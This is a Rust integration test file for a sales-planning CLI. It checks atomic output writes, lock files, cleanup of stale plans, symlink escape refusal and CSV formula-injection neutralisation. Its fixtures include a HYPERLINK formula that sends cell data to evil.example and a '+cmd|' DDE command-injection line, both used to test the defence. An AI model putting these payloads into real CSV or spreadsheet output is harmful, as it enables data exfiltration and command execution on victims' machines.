//! The outputs are whole, current and safe: a run that stops leaves the
//! earlier outputs as they were, one run at a time writes an output folder,
//! a full build removes the plans it no longer makes (and only kamplan's
//! files), no command writes through a link out of the project, and CSV
//! cells cannot run as spreadsheet formulas.

mod common;

use common::*;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A customer name a spreadsheet would run as a formula.
const FORMULA_NAME: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

/// A small project: five customers over 2024–2025, C1 the largest (named
/// `FORMULA_NAME`, with a cost above its revenue in one line) and C5 the
/// smallest; `shares` gives each customer's monthly revenue.
fn project_with(dir: &Path, shares: [u32; 5]) {
    let ids = ["C1", "C2", "C3", "C4", "C5"];
    let mut sales = String::from("date,invoice_id,customer_id,revenue,cost\n");
    for year in [2024, 2025] {
        for month in 1..=12 {
            for (id, amount) in ids.iter().zip(shares) {
                let cost = amount / 2;
                sales.push_str(&format!(
                    "{year}-{month:02}-10,INV-{id}-{year}{month:02},{id},{amount}.50,{cost}\n"
                ));
            }
        }
    }
    // Costs 22.50 on a revenue of 10: a margin of -12.50.
    sales.push_str("2025-12-20,INV-N,C5,10,22.50\n");
    // A line a spreadsheet would run, rejected for its date.
    sales.push_str("+cmd|' /C calc'!A0,INV-X,C1,5,1\n");
    let master = format!(
        "customer_id,name\nC1,\"{}\"\nC2,Beta Srl\nC3,Gamma\nC4,Delta\nC5,-Epsilon\n",
        FORMULA_NAME.replace('"', "\"\"")
    );
    write_project(
        dir,
        "sales.csv",
        sales.as_bytes(),
        Some(("customers.csv", master.as_bytes())),
        "",
    );
}

const SHARES: [u32; 5] = [1000, 300, 50, 40, 30];

fn new_project() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("project");
    project_with(&dir, SHARES);
    (tmp, dir)
}

fn run(args: &[&str]) -> (Option<i32>, String) {
    let output = kamplan(args);
    (output.status.code(), stderr_of(&output))
}

fn s(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// Every file under `dir` with its bytes, by path relative to it.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files: Vec<(PathBuf, Vec<u8>)> = walkdir::WalkDir::new(dir)
        .into_iter()
        .map(Result::unwrap)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (e.path().strip_prefix(dir).unwrap().to_path_buf(), std::fs::read(e.path()).unwrap())
        })
        .collect();
    files.sort();
    files
}

fn names(files: &[(PathBuf, Vec<u8>)]) -> Vec<String> {
    files.iter().map(|(p, _)| p.display().to_string()).collect()
}

/// Problem 13: a run whose workbook cannot be written stops with exit code
/// 2 and leaves every earlier output byte for byte, documents included.
#[test]
fn a_run_that_cannot_write_the_workbook_leaves_the_earlier_outputs_untouched() {
    let (tmp, dir) = new_project();
    let out = tmp.path().join("out");
    let (code, stderr) = run(&["build", s(&dir), "--out", s(&out), "--account", "C2", "-q"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(out.join("accounts").read_dir().unwrap().count() == 1, "one plan");
    // New figures, so that every file of a second run would differ…
    project_with(&dir, [900, 400, 60, 40, 30]);
    // …and a folder where the workbook goes.
    std::fs::remove_file(out.join("portfolio.xlsx")).unwrap();
    std::fs::create_dir_all(out.join("portfolio.xlsx/kept")).unwrap();
    let before = snapshot(&out);

    for args in [
        vec!["build", s(&dir), "--out", s(&out), "--account", "C2"],
        vec!["classify", s(&dir), "--out", s(&out)],
    ] {
        let (code, stderr) = run(&args);
        assert_eq!(code, Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains("portfolio.xlsx"), "the message names the workbook: {stderr}");
        let after = snapshot(&out);
        assert_eq!(names(&after), names(&before), "{args:?}: no file added or removed");
        assert!(after == before, "{args:?}: a file changed");
    }
}

/// Problem 14: a lock held by a running process stops a second run, which
/// names the holder and writes nothing; a lock whose process is gone is
/// taken over, with a note.
#[test]
fn a_held_lock_stops_a_second_run_naming_the_holder() {
    let (tmp, dir) = new_project();
    let out = tmp.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    let lock = out.join(".kamplan.lock");
    // This test's own process: it runs for as long as the test.
    let held = format!(
        "pid = {}\nhost = {}\ncommand = kamplan build other --locale it\nsince = 2025-06-30 09:00:00 UTC\n",
        std::process::id(),
        kamplan::output::lock::host_name()
    );
    std::fs::write(&lock, &held).unwrap();
    let (code, stderr) = run(&["classify", s(&dir), "--out", s(&out)]);
    assert_eq!(code, Some(2), "{stderr}");
    for part in [
        format!("process {}", std::process::id()),
        "kamplan build other --locale it".into(),
        "since 2025-06-30 09:00:00 UTC".into(),
        lock.display().to_string(),
    ] {
        assert!(stderr.contains(&part), "{part:?} missing: {stderr}");
    }
    assert_eq!(names(&snapshot(&out)), [".kamplan.lock"], "nothing written");
    assert_eq!(read(&lock), held, "the holder's lock is left alone");

    // Above the largest process id Linux hands out: a run that is gone.
    std::fs::write(&lock, held.replace(&std::process::id().to_string(), "4194999")).unwrap();
    let (code, stderr) = run(&["classify", s(&dir), "--out", s(&out)]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("took over the lock") && stderr.contains("process 4194999"),
        "{stderr}"
    );
    assert!(out.join("portfolio.csv").is_file());
    assert!(!lock.exists(), "the lock is released at the end");
}

/// Problem 14: two builds started at once into one folder (one in English,
/// one in Italian): one writes, the other reports the lock and writes
/// nothing, so the folder never mixes the two.
#[test]
fn two_builds_at_once_cannot_mix_their_documents() {
    let (tmp, dir) = new_project();
    let out = tmp.path().join("out");
    let start = |locale: &str| {
        Command::new(env!("CARGO_BIN_EXE_kamplan"))
            .args(["build", s(&dir), "--out", s(&out), "--account", "C2", "-q"])
            .args(["--locale", locale])
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (en, it) = (start("en"), start("it"));
    let outputs: Vec<Output> =
        [en, it].into_iter().map(|c| c.wait_with_output().unwrap()).collect();
    let codes: Vec<Option<i32>> = outputs.iter().map(|o| o.status.code()).collect();
    let all: String = outputs.iter().map(stderr_of).collect();
    assert!(
        codes == [Some(0), Some(2)] || codes == [Some(2), Some(0)],
        "exactly one build writes: {codes:?}\n{all}"
    );
    let loser = &outputs[codes.iter().position(|c| *c == Some(2)).unwrap()];
    let message = stderr_of(loser);
    assert!(message.contains("in use by another kamplan run"), "{message}");
    assert!(message.contains("kamplan build"), "the holder's command is named: {message}");
    // The winner's plan, in its language only.
    let text = text_of(&only_plan_in(&out));
    let winner_is_english = codes[0] == Some(0);
    assert_eq!(text.contains("Revenue"), winner_is_english, "{text}");
    assert_eq!(text.contains("Fatturato"), !winner_is_english, "{text}");
}

/// The one file in `out/accounts`.
fn only_plan_in(out: &Path) -> PathBuf {
    let plans: Vec<PathBuf> =
        std::fs::read_dir(out.join("accounts")).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(plans.len(), 1, "{plans:?}");
    plans[0].clone()
}

/// Problem 15: a full build removes the plan of an account that is no
/// longer a key account, and temporary files left by a killed run, and
/// keeps every other file; an `--account` build leaves the other plans alone.
#[test]
fn a_rebuild_removes_the_plans_of_former_key_accounts_and_keeps_the_users_files() {
    let (tmp, dir) = new_project();
    let out = tmp.path().join("out");
    let accounts = out.join("accounts");
    let plans = || -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(&accounts)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    };
    let (code, stderr) = run(&["build", s(&dir), "--out", s(&out), "-q"]);
    assert_eq!(code, Some(0), "{stderr}");
    let first = plans();
    let c2 = first.iter().find(|n| n.starts_with("c2")).expect("C2 is a key account").clone();
    std::fs::write(accounts.join("notes.pdf"), "the user's own").unwrap();
    std::fs::write(accounts.join(".x.pdf.123.tmp"), "half a plan").unwrap();
    std::fs::write(out.join(".portfolio.csv.old.4242.tmp"), "half a table").unwrap();
    std::fs::write(out.join("summary.tmp"), "the user's own").unwrap();

    // C2 falls to the smallest customer, C5 rises to second.
    project_with(&dir, [1000, 30, 50, 40, 300]);
    let (code, stderr) = run(&["build", s(&dir), "--out", s(&out)]);
    assert_eq!(code, Some(0), "{stderr}");
    let second = plans();
    assert!(!second.contains(&c2), "C2 is no longer a key account: {second:?}");
    assert!(second.iter().any(|n| n.starts_with("c5")), "{second:?}");
    assert!(second.contains(&"notes.pdf".to_string()), "{second:?}");
    assert!(stderr.contains(&format!("removed    accounts/{c2}")), "reported: {stderr}");
    assert_eq!(read(&accounts.join("notes.pdf")), "the user's own");
    assert_eq!(read(&out.join("summary.tmp")), "the user's own");
    assert!(!accounts.join(".x.pdf.123.tmp").exists(), "a killed run's temporary file goes");
    assert!(!out.join(".portfolio.csv.old.4242.tmp").exists());

    // An --account build leaves the other plans alone.
    let (code, stderr) = run(&["build", s(&dir), "--out", s(&out), "--account", "C3", "-q"]);
    assert_eq!(code, Some(0), "{stderr}");
    let third = plans();
    assert!(second.iter().all(|p| third.contains(p)), "{second:?} → {third:?}");
    assert_eq!(third.len(), second.len() + 1, "{third:?}");
}

/// Problem 16: `templates eject --force`, `init`, `init-account`, `sample` and the
/// output writers refuse to write through a link leading out of the
/// project, name it, and leave the file it leads to as it was. A link inside
/// the project is followed.
#[cfg(unix)]
#[test]
fn no_command_writes_through_a_link_leading_out_of_the_project() {
    use std::os::unix::fs::symlink;
    let (tmp, dir) = new_project();
    let outside = tmp.path().join("outside.txt");
    std::fs::write(&outside, "precious").unwrap();
    let refused = |args: &[&str], link: &Path| {
        let (code, stderr) = run(args);
        assert_eq!(code, Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(&link.display().to_string()), "{args:?}: {stderr}");
        assert!(stderr.contains("symbolic link to") && stderr.contains("outside.txt"), "{stderr}");
        assert_eq!(read(&outside), "precious", "{args:?} wrote through the link");
    };

    std::fs::create_dir_all(dir.join("templates")).unwrap();
    let template = dir.join("templates/account_plan.typ");
    symlink(&outside, &template).unwrap();
    refused(&["templates", "eject", "account_plan.typ", s(&dir), "--force"], &template);
    refused(&["templates", "eject", s(&dir), "--force"], &template);

    let account = dir.join("accounts/C2.toml");
    std::fs::create_dir_all(dir.join("accounts")).unwrap();
    symlink(&outside, &account).unwrap();
    refused(&["init-account", "C2", s(&dir), "--force"], &account);

    let fresh = tmp.path().join("fresh");
    std::fs::create_dir_all(&fresh).unwrap();
    symlink(&outside, fresh.join("README.md")).unwrap();
    refused(&["init", s(&fresh)], &fresh.join("README.md"));
    assert!(!fresh.join("kamplan.toml").exists(), "init stops before writing anything");

    let demo = tmp.path().join("demo");
    std::fs::create_dir_all(demo.join("sales")).unwrap();
    symlink(&outside, demo.join("sales/2025-06.csv")).unwrap();
    refused(
        &["sample", s(&demo), "--customers", "5", "--months", "3"],
        &demo.join("sales/2025-06.csv"),
    );
    assert!(!demo.join("kamplan.toml").exists(), "sample stops before writing anything");

    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    symlink(&outside, out.join("rejects.csv")).unwrap();
    refused(&["classify", s(&dir)], &out.join("rejects.csv"));
    assert!(!out.join("portfolio.csv").exists(), "nothing written");

    // Inside the project, a link is followed: the template lands where it leads.
    std::fs::remove_file(&template).unwrap();
    std::fs::create_dir_all(dir.join("shared")).unwrap();
    std::fs::write(dir.join("shared/plan.typ"), "old").unwrap();
    symlink("../shared/plan.typ", &template).unwrap();
    let (code, stderr) = run(&["templates", "eject", "account_plan.typ", s(&dir), "--force"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(read(&dir.join("shared/plan.typ")).contains("#"), "the built-in template was written");
    assert!(std::fs::symlink_metadata(&template).unwrap().file_type().is_symlink());
}

/// Problem 17: text cells that a spreadsheet would run as formulas come out
/// with a leading `'` in portfolio.csv and rejects.csv; numbers, negative
/// ones included, are written as they are.
#[test]
fn formula_looking_text_is_neutralised_in_the_csv_files_and_numbers_are_not() {
    let (tmp, dir) = new_project();
    let out = tmp.path().join("out");
    let (code, stderr) = run(&["classify", s(&dir), "--out", s(&out)]);
    assert_eq!(code, Some(0), "{stderr}");
    let (header, rows) = csv_records(&out.join("portfolio.csv"));
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = |id: &str| rows.iter().find(|r| r[0] == id).unwrap();
    assert_eq!(row("C1")[at("name")], format!("'{FORMULA_NAME}"));
    assert_eq!(row("C5")[at("name")], "'-Epsilon", "a text cell starting with - is text");
    assert_eq!(row("C2")[at("name")], "Beta Srl");
    for column in ["revenue", "margin", "growth", "orders"] {
        for r in &rows {
            assert!(r[at(column)].parse::<f64>().is_ok(), "{column} is a plain number: {r:?}");
        }
    }

    let (header, rejects) = csv_records(&out.join("rejects.csv"));
    let content = header.iter().position(|h| h == "content").unwrap();
    assert_eq!(rejects.len(), 1, "{rejects:?}");
    assert_eq!(rejects[0][content], "'+cmd|' /C calc'!A0,INV-X,C1,5,1");
    let line = header.iter().position(|h| h == "line").unwrap();
    // After the header, 24 months of five customers and C5's extra line.
    assert_eq!(rejects[0][line], (1 + 24 * 5 + 1 + 1).to_string(), "a number stays a number");
}

/// A negative amount is a number, not text: it keeps its minus sign as is.
#[test]
fn a_negative_amount_keeps_its_sign_in_portfolio_csv() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("project");
    let sales = "date,invoice_id,customer_id,revenue,cost\n2025-06-10,I1,C1,10,22.50\n2025-06-11,I2,C2,50,10\n";
    write_project(&dir, "sales.csv", sales.as_bytes(), None, "");
    let out = tmp.path().join("out");
    let (code, stderr) = run(&["classify", s(&dir), "--out", s(&out)]);
    assert_eq!(code, Some(0), "{stderr}");
    let (header, rows) = csv_records(&out.join("portfolio.csv"));
    let margin = header.iter().position(|h| h == "margin").unwrap();
    assert_eq!(rows[0][margin], "-12.50");
}

/// An output path that is a file is named as such, and left as it was.
#[test]
fn an_output_path_that_is_a_file_is_named_in_the_message() {
    let (tmp, dir) = new_project();
    let out = tmp.path().join("out");
    std::fs::write(&out, "a file").unwrap();
    for command in ["classify", "build"] {
        let (code, stderr) = run(&[command, s(&dir), "--out", s(&out)]);
        assert_eq!(code, Some(2), "{stderr}");
        let expected = format!("the output path {} is a file, not a folder", out.display());
        assert!(stderr.contains(&expected), "{command}: {stderr}");
        assert!(!stderr.contains("File exists"), "{stderr}");
        assert_eq!(read(&out), "a file");
    }
}

/// Problem 17 in `diff --csv`: the changes name customers too.
#[test]
fn formula_looking_names_are_neutralised_in_diff_csv() {
    let (tmp, dir) = new_project();
    // The same rules, with C1 kept out of the key accounts.
    let rules = tmp.path().join("other-rules");
    std::fs::create_dir_all(&rules).unwrap();
    let repo_rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    for entry in std::fs::read_dir(&repo_rules).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, rules.join(path.file_name().unwrap())).unwrap();
    }
    let key_accounts = rules.join("key_accounts.toml");
    let text = read(&key_accounts);
    assert!(text.contains("\nexclude = []"), "{text}");
    std::fs::write(&key_accounts, text.replace("\nexclude = []", "\nexclude = [\"C1\"]")).unwrap();
    let changes = tmp.path().join("changes.csv");
    let (code, stderr) = run(&["diff", s(&dir), "--rules", s(&rules), "--csv", s(&changes)]);
    assert_eq!(code, Some(0), "{stderr}");
    let (header, rows) = csv_records(&changes);
    let name = header.iter().position(|h| h == "name").unwrap();
    let c1: Vec<&Vec<String>> = rows.iter().filter(|r| r[0] == "C1").collect();
    assert!(!c1.is_empty(), "C1 leaves the key accounts: {rows:?}");
    for row in c1 {
        assert_eq!(row[name], format!("'{FORMULA_NAME}"));
    }
}
